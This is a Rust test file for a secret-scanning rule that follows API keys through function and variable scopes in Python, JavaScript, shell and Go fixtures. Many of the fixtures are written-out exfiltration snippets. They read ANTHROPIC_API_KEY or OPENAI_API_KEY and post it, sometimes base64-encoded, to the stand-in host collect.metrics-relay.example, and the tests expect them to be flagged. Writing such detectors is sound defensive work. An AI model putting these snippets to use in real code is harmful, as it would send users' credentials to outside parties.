//! Following values through functions: a name one function assigns is its own (Python; JS/TS
//! declarations), and the name an assignment gives a new value is not read by it.

use super::*;
use crate::scan::judge::code;

const RULE: &str = "exfiltration.key-to-foreign-host";

#[test]
fn each_providers_function_sends_its_own_key() {
    // Two backends in one file, the same local names in both.
    let two = "import os, json, urllib.request\n\n\
               def ask_claude(prompt):\n    key = os.environ['ANTHROPIC_API_KEY']\n    \
               req = urllib.request.Request('https://api.anthropic.com/v1/messages', \
               data=json.dumps({'p': prompt}).encode(), headers={'x-api-key': key})\n    \
               return urllib.request.urlopen(req).read()\n\n\
               def ask_gpt(prompt):\n    key = os.environ['OPENAI_API_KEY']\n    \
               req = urllib.request.Request('https://api.openai.com/v1/responses', \
               data=json.dumps({'p': prompt}).encode(), headers={'Authorization': 'Bearer ' + key})\n    \
               return urllib.request.urlopen(req).read()\n";
    assert_eq!(worst(&[("scripts/llm.py", two)], RULE), None);
    // The same in JavaScript, each key declared in its own function.
    let js = "async function claude(p) {\n  const key = process.env.ANTHROPIC_API_KEY;\n  \
              return fetch('https://api.anthropic.com/v1/messages', {method: 'POST', \
              headers: {'x-api-key': key}, body: p});\n}\n\n\
              async function gpt(p) {\n  const key = process.env.OPENAI_API_KEY;\n  \
              return fetch('https://api.openai.com/v1/responses', {method: 'POST', \
              headers: {Authorization: `Bearer ${key}`}, body: p});\n}\n";
    assert_eq!(worst(&[("scripts/llm.mjs", js)], RULE), None);
}

#[test]
fn a_key_still_reaches_a_foreign_host_through_a_function() {
    // Read in one function and returned, sent by another: the function's result carries it.
    let ret = "import os, requests\n\n\
               def creds():\n    k = os.environ['ANTHROPIC_API_KEY']\n    return k\n\n\
               def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': creds()})\n";
    assert_eq!(worst(&[("scripts/r.py", ret)], RULE), Some(Critical));
    // A module-level name read inside a function is not that function's own.
    let module = "import os, requests\nK = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", module)], RULE), Some(Critical));
    // `global`: the function assigns the module's name, which another function sends.
    let global = "import os, requests\nK = None\n\n\
                  def load():\n    global K\n    K = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def report():\n    requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", global)], RULE), Some(Critical));
    // A local reassigned inside the function keeps the module's value outside it.
    let shadow = "import os, requests\nK = os.environ['ANTHROPIC_API_KEY']\n\n\
                  def other():\n    K = 'unused'\n    return K\n\n\
                  requests.post('https://collect.metrics-relay.example/k', data={'k': K})\n";
    assert_eq!(worst(&[("scripts/r.py", shadow)], RULE), Some(Critical));
    // A nested function reads its enclosing function's locals.
    let nested = "async function main() {\n  const key = process.env.ANTHROPIC_API_KEY;\n  \
                  const send = async () => {\n    await fetch('https://collect.metrics-relay.example/k', \
                  {method: 'POST', body: key});\n  };\n  await send();\n}\n";
    assert_eq!(worst(&[("scripts/r.mjs", nested)], RULE), Some(Critical));
}

#[test]
fn the_name_an_assignment_sets_is_not_read_by_it() {
    // `req` carried the Anthropic key to Anthropic; the last line builds a new request to another
    // host under the same name. (A later read of `req` would still carry the key: a name keeps
    // what it ever carried in its scope, so a branch that overwrites it cannot hide a flow.)
    let reuse = "import os, urllib.request\n\
                 key = os.environ['ANTHROPIC_API_KEY']\n\
                 req = urllib.request.Request('https://api.anthropic.com/v1/messages', headers={'x-api-key': key})\n\
                 urllib.request.urlopen(req)\n\
                 req = urllib.request.Request('https://status.example.org/ping', data=b'up')\n";
    assert_eq!(worst(&[("scripts/ping.py", reuse)], RULE), None);
    // A value that reads the name still carries what the name carried.
    let grows = "import os, requests\n\
                 body = os.environ['ANTHROPIC_API_KEY']\n\
                 body = body + '&from=cli'\n\
                 requests.post('https://collect.metrics-relay.example/k', data=body)\n";
    assert_eq!(worst(&[("scripts/r.py", grows)], RULE), Some(Critical));
    assert_eq!(code::overwritten("req = Request(url)"), Some("req"));
    assert_eq!(
        code::overwritten("const req = new Request(url)"),
        Some("req")
    );
    assert_eq!(code::overwritten("X=$(cat f)"), Some("X"));
    assert_eq!(code::overwritten("x = x + 1"), None);
    assert_eq!(code::overwritten("x += 1"), None);
    assert_eq!(code::overwritten("x == 1"), None);
    assert_eq!(code::overwritten("send(x)"), None);
}

#[test]
fn shell_and_go_functions_keep_their_declared_names() {
    // Shell: each function declares its key `local`, and sends it to its own vendor.
    let sh = "#!/usr/bin/env bash\n\
              ask_claude() {\n  local key=\"$ANTHROPIC_API_KEY\"\n  \
              curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $key\" -d \"$1\"\n}\n\n\
              ask_gpt() {\n  local key=\"$OPENAI_API_KEY\"\n  \
              curl -s https://api.openai.com/v1/responses -H \"Authorization: Bearer $key\" -d \"$1\"\n}\n";
    assert_eq!(worst(&[("scripts/llm.sh", sh)], RULE), None);
    // Go: `:=` inside each function.
    let go = "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n\
              func claude(p string) {\n\tkey := os.Getenv(\"ANTHROPIC_API_KEY\")\n\t\
              req, _ := http.NewRequest(\"POST\", \"https://api.anthropic.com/v1/messages\", strings.NewReader(p))\n\t\
              req.Header.Set(\"x-api-key\", key)\n\thttp.DefaultClient.Do(req)\n}\n\n\
              func gpt(p string) {\n\tkey := os.Getenv(\"OPENAI_API_KEY\")\n\t\
              req, _ := http.NewRequest(\"POST\", \"https://api.openai.com/v1/responses\", strings.NewReader(p))\n\t\
              req.Header.Set(\"Authorization\", \"Bearer \"+key)\n\thttp.DefaultClient.Do(req)\n}\n";
    assert_eq!(worst(&[("cmd/llm.go", go)], RULE), None);
}

#[test]
fn shell_and_go_globals_are_still_followed_across_functions() {
    // Without `local`, a shell function assigns the script's name, which the next one sends.
    let sh = "#!/bin/sh\n\
              load() {\n  key=\"$ANTHROPIC_API_KEY\"\n}\n\n\
              report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\n\
              load\nreport\n";
    assert_eq!(worst(&[("scripts/r.sh", sh)], RULE), Some(Critical));
    // `declare -g` is global too.
    let g = "#!/bin/bash\n\
             load() {\n  declare -g key=\"$ANTHROPIC_API_KEY\"\n}\n\n\
             report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\n\
             load\nreport\n";
    assert_eq!(worst(&[("scripts/r.sh", g)], RULE), Some(Critical));
    // A local one function sends to a foreign host inside itself is still caught.
    let inside = "#!/bin/bash\n\
                  report() {\n  local key=\"$ANTHROPIC_API_KEY\"\n  \
                  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n}\nreport\n";
    assert_eq!(worst(&[("scripts/r.sh", inside)], RULE), Some(Critical));
    // Go: a package-level variable assigned in one function (`=`, no `:=`) and sent by another.
    let go = "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nvar key string\n\n\
              func load() {\n\tkey = os.Getenv(\"ANTHROPIC_API_KEY\")\n}\n\n\
              func report() {\n\thttp.Post(\"https://collect.metrics-relay.example/k\", \"text/plain\", strings.NewReader(key))\n}\n";
    assert_eq!(worst(&[("cmd/r.go", go)], RULE), Some(Critical));
}

#[test]
fn a_requests_answer_does_not_carry_the_key_it_was_sent_with() {
    // A model's summary, asked with the vendor's own key, posted to a chat.
    let py = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n\
              resp = requests.post('https://api.openai.com/v1/responses', \
              headers={'Authorization': 'Bearer ' + key}, json={'input': 'sum up'})\n\
              summary = resp.json()['output']\n\
              requests.post('https://hooks.slack.com/services/T0/B0/X', json={'text': summary})\n";
    assert_eq!(worst(&[("scripts/post.py", py)], RULE), None);
    let sh = "#!/bin/bash\n\
              out=$(curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" -d @req.json)\n\
              curl -s -X POST -d \"{\\\"text\\\": \\\"$out\\\"}\" https://hooks.slack.com/services/T0/B0/X\n";
    assert_eq!(worst(&[("scripts/post.sh", sh)], RULE), None);
}

#[test]
fn a_key_sent_away_or_transformed_first_is_still_caught() {
    // The request that carries the key to a foreign host is itself the sink.
    let direct = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\n\
                  resp = requests.post('https://collect.metrics-relay.example/k', data={'k': key})\n";
    assert_eq!(worst(&[("scripts/r.py", direct)], RULE), Some(Critical));
    // Encoded on one line (no request there), sent on the next.
    let encoded = "import os, base64, requests\nkey = os.environ['OPENAI_API_KEY']\n\
                   blob = base64.b64encode(key.encode())\n\
                   requests.post('https://collect.metrics-relay.example/k', data=blob)\n";
    assert_eq!(worst(&[("scripts/r.py", encoded)], RULE), Some(Critical));
    // The key and a request on one line that keeps the key too: still followed.
    let shell = "#!/bin/sh\nK=\"$OPENAI_API_KEY\"\n\
                 curl -s https://collect.metrics-relay.example/k -d \"k=$K\"\n";
    assert_eq!(worst(&[("scripts/r.sh", shell)], RULE), Some(Critical));
}

#[test]
fn blocks_pass_out_the_names_they_set_and_not_what_they_reset() {
    // JS: a global name set inside one function, sent by another.
    let js = "let key;\nfunction load() {\n  key = process.env.ANTHROPIC_API_KEY;\n}\n\
              function report() {\n  fetch('https://collect.metrics-relay.example/k', \
              {method: 'POST', body: key});\n}\nload();\nreport();\n";
    assert_eq!(worst(&[("scripts/r.js", js)], RULE), Some(Critical));
    // Shell functions without `local`, each setting `key` anew before sending it to its vendor.
    let sh = "#!/bin/bash\n\
              ask_claude() {\n  key=\"$ANTHROPIC_API_KEY\"\n  \
              curl -s https://api.anthropic.com/v1/messages -H \"x-api-key: $key\" -d \"$1\"\n}\n\n\
              ask_gpt() {\n  key=\"$OPENAI_API_KEY\"\n  \
              curl -s https://api.openai.com/v1/responses -H \"Authorization: Bearer $key\" -d \"$1\"\n}\n";
    assert_eq!(worst(&[("scripts/llm.sh", sh)], RULE), None);
    // A block that reads the old value first still carries it.
    let reads = "#!/bin/bash\nkey=\"$ANTHROPIC_API_KEY\"\n\
                 report() {\n  curl -s -d \"k=$key\" https://collect.metrics-relay.example/k\n  \
                 key=\"\"\n}\nreport\n";
    assert_eq!(worst(&[("scripts/r.sh", reads)], RULE), Some(Critical));
    // A declared name inside a block is the block's own.
    let own = "function load() {\n  const key = process.env.ANTHROPIC_API_KEY;\n  return 1;\n}\n\
               function report() {\n  fetch('https://collect.metrics-relay.example/k', \
               {method: 'POST', body: key});\n}\n";
    assert_eq!(worst(&[("scripts/r.js", own)], RULE), None);
}
